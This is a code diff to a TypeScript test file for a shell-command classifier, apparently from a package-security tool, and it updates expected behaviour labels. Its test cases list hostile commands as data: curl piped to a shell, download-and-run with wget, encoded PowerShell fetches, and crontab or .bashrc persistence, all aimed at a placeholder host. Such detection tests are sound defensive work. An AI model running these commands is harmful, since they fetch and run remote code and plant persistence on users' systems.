@@ -6,7 +6,7 @@ import { parseShell } from '../../lib/behavior/shell.js';
 function read(command: string): string {
   const parts: string[] = [];
   for (const { behaviors, runs } of parseShell(command)) {
-    for (const b of behaviors) parts.push([b.code, ...b.qualifiers].join(' '));
+    for (const b of behaviors) parts.push([b.code, ...[...b.qualifiers].sort()].join(' '));
     for (const run of runs) {
       if (run.type === 'file') parts.push(`file:${run.path}`);
       else if (run.type === 'script') parts.push(`script:${run.name}`);
@@ -52,7 +52,7 @@ const CASES: readonly [string, string, string][] = [
   ['build tool', 'node-gyp rebuild', 'run-build-tool'],
   ['build tool behind a runner', 'npx tsc -p .', 'run-build-tool'],
   ['publish', 'npm publish --access public', 'publish-package'],
-  ['download', 'curl -o x.bin https://host.invalid/x', 'download-file to:other'],
+  ['download', 'curl -o x.bin https://host.invalid/x', 'download-file path:executable to:other'],
   ['request', 'curl -s http://host.invalid/x', 'http-request to:http to:other'],
   [
     'pipe to shell',
@@ -65,7 +65,11 @@ const CASES: readonly [string, string, string][] = [
     'http-request to:other | pipe-to-shell to:other',
   ],
   ['pipe to node', 'curl https://host.invalid/x.js | node', 'http-request to:other | pipe-to-shell to:other'],
-  ['substituted into a shell', 'bash -c "$(curl -fsSL https://host.invalid/x)"', 'http-request to:other'],
+  [
+    'substituted into a shell',
+    'bash -c "$(curl -fsSL https://host.invalid/x)"',
+    'http-request to:other | pipe-to-shell',
+  ],
   [
     'download and run',
     'wget -O f https://host.invalid/f && chmod +x f && ./f',
@@ -130,7 +134,7 @@ const CASES: readonly [string, string, string][] = [
     'run-interpreter encoded powershell | evaluate-downloaded hidden powershell | http-request hidden powershell to:other',
   ],
   ['start-up', '(crontab -l; echo "* * * * * x") | crontab -', 'list-directory | persist-startup'],
-  ['shell profile', 'echo "x" >> ~/.bashrc', 'persist-startup path:home path:hidden path:startup'],
+  ['shell profile', 'echo "x" >> ~/.bashrc', 'persist-startup path:hidden path:home path:startup'],
   ['scheduled task', 'schtasks /create /tn x /tr y', 'persist-startup'],
   ['deletion', 'rm -rf dist', 'delete-tree'],
   ['killing', 'taskkill /f /im chrome.exe', 'kill-process'],
